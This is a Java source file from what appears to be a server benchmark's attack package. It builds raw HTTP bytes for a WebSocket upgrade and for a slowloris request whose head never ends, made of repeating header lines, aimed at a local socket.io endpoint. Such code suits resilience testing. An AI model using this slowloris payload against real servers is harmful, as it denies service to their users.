package io.switchboard.bench.attack;

import java.nio.charset.StandardCharsets;

/**
 * The HTTP requests the attacks send, as bytes: a WebSocket upgrade, and the endless request head of slowloris.
 *
 * <pre>{@code
 * byte[] upgrade = Requests.upgrade("/socket.io/?EIO=4&transport=websocket", "127.0.0.1:3000");
 * Requests.Slow slow = new Requests.Slow("/socket.io/", "127.0.0.1:3000");
 * byte b = slow.byteAt(i);          // GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: …\r\nX-a: b\r\nX-a: b…
 * }</pre>
 */
final class Requests {
  /** Any 16 bytes in base64 do; the server's accept header is not checked. */
  private static final String KEY = "c3dpdGNoYm9hcmQtYXR0YWNr";

  private Requests() {}

  /** A WebSocket upgrade request for {@code target} ({@code path?query}). */
  static byte[] upgrade(String target, String host) {
    return ("GET " + target + " HTTP/1.1\r\n"
        + "Host: " + host + "\r\n"
        + "Upgrade: websocket\r\n"
        + "Connection: Upgrade\r\n"
        + "Sec-WebSocket-Key: " + KEY + "\r\n"
        + "Sec-WebSocket-Version: 13\r\n"
        + "User-Agent: switchboard-attack\r\n"
        + "\r\n").getBytes(StandardCharsets.US_ASCII);
  }

  /**
   * A request head that never ends: a polling handshake's request line and {@code Host}, then {@code X-a: b} header
   * lines for ever. Byte {@code i} is {@link #byteAt(long)}.
   */
  static final class Slow {
    private static final byte[] FILLER = "X-a: b\r\n".getBytes(StandardCharsets.US_ASCII);
    private final byte[] prefix;

    Slow(String path, String host) {
      this.prefix = ("GET " + path + "?EIO=4&transport=polling HTTP/1.1\r\nHost: " + host
          + "\r\nUser-Agent: switchboard-attack\r\n").getBytes(StandardCharsets.US_ASCII);
    }

    /** The {@code i}th byte of the endless head. */
    byte byteAt(long i) {
      return i < prefix.length ? prefix[(int) i] : FILLER[(int) ((i - prefix.length) % FILLER.length)];
    }
  }
}
